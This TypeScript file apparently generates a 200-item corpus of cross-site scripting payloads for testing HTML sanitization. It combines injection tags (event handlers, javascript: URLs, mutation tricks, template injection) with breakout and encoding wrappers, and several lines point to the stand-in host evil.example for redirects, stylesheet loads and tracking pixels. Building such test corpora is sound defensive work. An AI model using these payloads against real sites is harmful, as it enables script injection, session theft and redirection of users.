/** Texts that run a script where a page makes HTML, an address or a style of them: 200 of them. */

const RUN = "foreignScriptRan(1)";
const TAGS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<input autofocus onfocus=${RUN}>`,
  `<body onload=${RUN}>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<object data="javascript:${RUN}"></object>`,
  `<a href="javascript:${RUN}" autofocus onfocus=${RUN}>x</a>`,
  `<style>@import 'http://evil.example/x.css';*{animation:x}</style><b style="animation:x" onanimationstart=${RUN}>`,
  `<link rel=stylesheet href=http://evil.example/x.css>`,
  `<base href=http://evil.example/>`,
  `<meta http-equiv=refresh content="0;url=http://evil.example/">`,
  `<form action=http://evil.example/><button autofocus onfocus=${RUN}>`,
  `<img src=http://evil.example/pixel.png>`,
  `<template><img src=x onerror=${RUN}></template>`,
];
const AROUND: ((tag: string) => string)[] = [
  (tag) => tag,
  (tag) => `">${tag}`,
  (tag) => `'>${tag}`,
  (tag) => `</script>${tag}`,
  (tag) => `</textarea></style></title>${tag}`,
  (tag) => `-->${tag}<!--`,
  (tag) => tag.replaceAll("<", "<\u0000").replaceAll("script", "scr\u0000ipt") + tag,
  (tag) => tag.toUpperCase().replaceAll("FOREIGNSCRIPTRAN", "foreignScriptRan") + tag,
  (tag) => `{{constructor.constructor('${RUN}')()}}\${${RUN}}${tag}`,
  (tag) => `&lt;${tag}\u202e\u2028]]>${tag}`,
];

export const CORPUS = TAGS.flatMap((tag) => AROUND.map((around) => around(tag)));
